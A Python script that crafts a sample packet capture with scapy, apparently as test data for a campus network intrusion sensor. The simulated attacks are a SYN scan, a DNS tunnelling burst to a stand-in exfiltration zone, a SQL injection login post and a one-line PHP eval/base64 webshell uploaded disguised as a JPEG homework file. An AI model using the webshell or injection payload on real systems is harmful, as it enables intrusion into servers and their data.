"""Craft sensors/samples/campus_sample.pcap deterministically with scapy (never sends anything).

Scenario on 2026-11-02 from 01:00:00Z (09:00 Beijing), campus 10.20.0.0/16:
  +0 s   TCP SYN scan 10.20.3.66 -> 10.20.1.10, 300 ports in 20 s; closed ports answer RST/ACK (REJ),
         22/80/443 answer SYN/ACK and the scanner resets (RSTO)
  +60 s  10.20.1.50 asks resolver 10.20.0.53: 60 TXT queries <40-char base32>.t.exfil-tunnel.example,
         interleaved with ordinary A lookups (and one NXDOMAIN)
  +120 s 10.20.1.50 browses http://10.20.1.80/: 3 complete HTTP/1.1 GETs (SF)
  +140 s 10.20.3.66 posts the login form of http://10.20.1.80/ with a SQL injection in the body
         (username=admin' or '1'='1'-- ): only the request body shows it (OWASP CRS catches it)
  +150 s 198.51.100.23 uploads a PHP webshell (eval of base64_decode($_POST[..]), written for this sample)
         to http://10.20.1.80/upload.php as a multipart "homework" form, declared image/jpeg

Run: python -m sensors.samples.make_sample_pcap [OUT]
"""
from __future__ import annotations

import base64
import random
import sys
from datetime import datetime, timezone
from pathlib import Path

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.l2 import Ether
from scapy.packet import Packet
from scapy.utils import wrpcap

from sensors.samples.http_craft import http_request, http_response, multipart_form, tcp_exchange

BASE = datetime(2026, 11, 2, 1, 0, 0, tzinfo=timezone.utc).timestamp()
SEED = 20261102
OUT = Path(__file__).with_name("campus_sample.pcap")

SCANNER, SCAN_TARGET = "10.20.3.66", "10.20.1.10"
CLIENT, RESOLVER, WEB = "10.20.1.50", "10.20.0.53", "10.20.1.80"
OPEN_PORTS = (22, 80, 443)
TUNNEL_ZONE = "t.exfil-tunnel.example"
A_RECORDS = {
    "www.moe.gov.cn": "192.0.2.10",
    "www.edu.cn": "192.0.2.20",
    "www.school-no1.edu.cn": WEB,
    "mirrors.tuna.tsinghua.edu.cn": "192.0.2.30",
}
NX_NAME = "wpad.campus.lan"
PAGES = ("/", "/news/2026-11-01.html", "/static/css/site.css")
UPLOADER = "198.51.100.23"
# A one-line PHP webshell written for this sample (not taken from any collection).
WEBSHELL = b"<?php /* homework */ @eval(base64_decode($_POST['k'])); ?>\n"
_MAC: dict[str, str] = {}


def _mac(ip: str) -> str:
    # A fixed locally administered MAC per host, so scapy never looks one up.
    return _MAC.setdefault(ip, "02:00:" + ":".join(f"{int(o):02x}" for o in ip.split(".")))


def _frame(ts: float, src: str, dst: str, l4: Packet) -> Packet:
    packet = Ether(src=_mac(src), dst=_mac(dst)) / IP(src=src, dst=dst, id=0, ttl=64) / l4
    packet.time = round(ts, 6)
    return packet


def syn_scan(rng: random.Random, start: float) -> list[Packet]:
    closed = rng.sample([p for p in range(1, 10_000) if p not in OPEN_PORTS], 297)
    ports = closed + list(OPEN_PORTS)
    rng.shuffle(ports)
    sport = 54_321  # nmap keeps one source port for a whole SYN scan
    frames: list[Packet] = []
    for i, port in enumerate(ports):
        t = start + i * (20.0 / len(ports))
        seq = rng.getrandbits(32)
        frames.append(_frame(t, SCANNER, SCAN_TARGET, TCP(sport=sport, dport=port, flags="S", seq=seq, window=1024)))
        if port in OPEN_PORTS:
            server_seq = rng.getrandbits(32)
            frames.append(_frame(t + 0.0004, SCAN_TARGET, SCANNER,
                                 TCP(sport=port, dport=sport, flags="SA", seq=server_seq, ack=seq + 1, window=64240)))
            frames.append(_frame(t + 0.0008, SCANNER, SCAN_TARGET, TCP(sport=sport, dport=port, flags="R", seq=seq + 1)))
        else:
            frames.append(_frame(t + 0.0003, SCAN_TARGET, SCANNER,
                                 TCP(sport=port, dport=sport, flags="RA", seq=0, ack=seq + 1, window=0)))
    return frames


def _dns_exchange(rng: random.Random, t: float, name: str, qtype: str, answer: DNSRR | None, rcode: int = 0) -> list[Packet]:
    sport, txid = rng.randint(1024, 65535), rng.getrandbits(16)
    query = DNS(id=txid, rd=1, qd=DNSQR(qname=name, qtype=qtype))
    response = DNS(id=txid, qr=1, rd=1, ra=1, rcode=rcode, qd=DNSQR(qname=name, qtype=qtype),
                   an=[answer] if answer is not None else [])
    return [
        _frame(t, CLIENT, RESOLVER, UDP(sport=sport, dport=53) / query),
        _frame(t + 0.012, RESOLVER, CLIENT, UDP(sport=53, dport=sport) / response),
    ]


def dns_burst(rng: random.Random, start: float) -> list[Packet]:
    frames: list[Packet] = []
    ordinary = iter(list(A_RECORDS.items()) + [(NX_NAME, None)])
    for i in range(60):
        t = start + i * 0.5
        label = base64.b32encode(rng.randbytes(25)).decode("ascii").lower()  # 40 characters
        name = f"{label}.{TUNNEL_ZONE}"
        payload = base64.b32encode(rng.randbytes(30)).decode("ascii").lower()
        frames += _dns_exchange(rng, t, name, "TXT", DNSRR(rrname=name, type="TXT", ttl=0, rdata=payload))
        if i % 12 == 5:
            host, address = next(ordinary)
            if address is None:
                frames += _dns_exchange(rng, t + 0.2, host, "A", None, rcode=3)
            else:
                frames += _dns_exchange(rng, t + 0.2, host, "A", DNSRR(rrname=host, type="A", ttl=600, rdata=address))
    return frames


def http_get(rng: random.Random, start: float, path: str, request: bytes | None = None, client: str = CLIENT) -> list[Packet]:
    sport = rng.randint(40_000, 60_000)
    c, s = rng.getrandbits(32), rng.getrandbits(32)
    request = request or (f"GET {path} HTTP/1.1\r\nHost: www.school-no1.edu.cn\r\n"
                          "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n").encode()
    body = f"<html><body>page {path}</body></html>".encode()
    response = (b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n"
                + f"Content-Length: {len(body)}\r\n\r\n".encode() + body)

    def to_server(t: float, flags: str, seq: int, ack: int, data: bytes = b"") -> Packet:
        return _frame(start + t, client, WEB, TCP(sport=sport, dport=80, flags=flags, seq=seq, ack=ack) / data)

    def to_client(t: float, flags: str, seq: int, ack: int, data: bytes = b"") -> Packet:
        return _frame(start + t, WEB, client, TCP(sport=80, dport=sport, flags=flags, seq=seq, ack=ack) / data)

    c_after, s_after = c + 1 + len(request), s + 1 + len(response)
    return [
        to_server(0.000, "S", c, 0),
        to_client(0.001, "SA", s, c + 1),
        to_server(0.002, "A", c + 1, s + 1),
        to_server(0.003, "PA", c + 1, s + 1, request),
        to_client(0.010, "PA", s + 1, c_after, response),
        to_server(0.011, "A", c_after, s_after),
        to_server(0.020, "FA", c_after, s_after),
        to_client(0.021, "FA", s_after, c_after + 1),
        to_server(0.022, "A", c_after + 1, s_after + 1),
    ]


def webshell_upload(rng: random.Random, start: float) -> list[Packet]:
    content_type, body = multipart_form({"course": "信息技术", "student": "2026031"},
                                        [("homework", "homework.php", "image/jpeg", WEBSHELL)])
    request = http_request("POST", "/upload.php", "www.school-no1.edu.cn", body, content_type=content_type)
    response = http_response(200, "<html><body>上传成功</body></html>".encode())
    return tcp_exchange(start, UPLOADER, WEB, rng.randint(40_000, 60_000), request, response,
                        isn=(rng.getrandbits(31), rng.getrandbits(31)))


def build() -> list[Packet]:
    rng = random.Random(SEED)
    frames = syn_scan(rng, BASE)
    frames += dns_burst(rng, BASE + 60)
    for i, path in enumerate(PAGES):
        frames += http_get(rng, BASE + 120 + i * 5, path)
    frames += http_get(rng, BASE + 140, "/login.php", sqli_login_post(), client=SCANNER)
    frames += webshell_upload(rng, BASE + 150)
    frames.sort(key=lambda p: float(p.time))
    return frames


def sqli_login_post() -> bytes:
    """A login form posted with a SQL injection in its body (the URL is clean)."""
    form = b"username=admin%27+or+%271%27%3D%271%27--+&password=x&submit=%E7%99%BB%E5%BD%95"
    return (b"POST /login.php HTTP/1.1\r\nHost: www.school-no1.edu.cn\r\n"
            b"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\n"
            + f"Content-Length: {len(form)}\r\n\r\n".encode() + form)


def main(out: Path = OUT) -> None:
    wrpcap(str(out), build())
    print(f"wrote {out}")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else OUT)
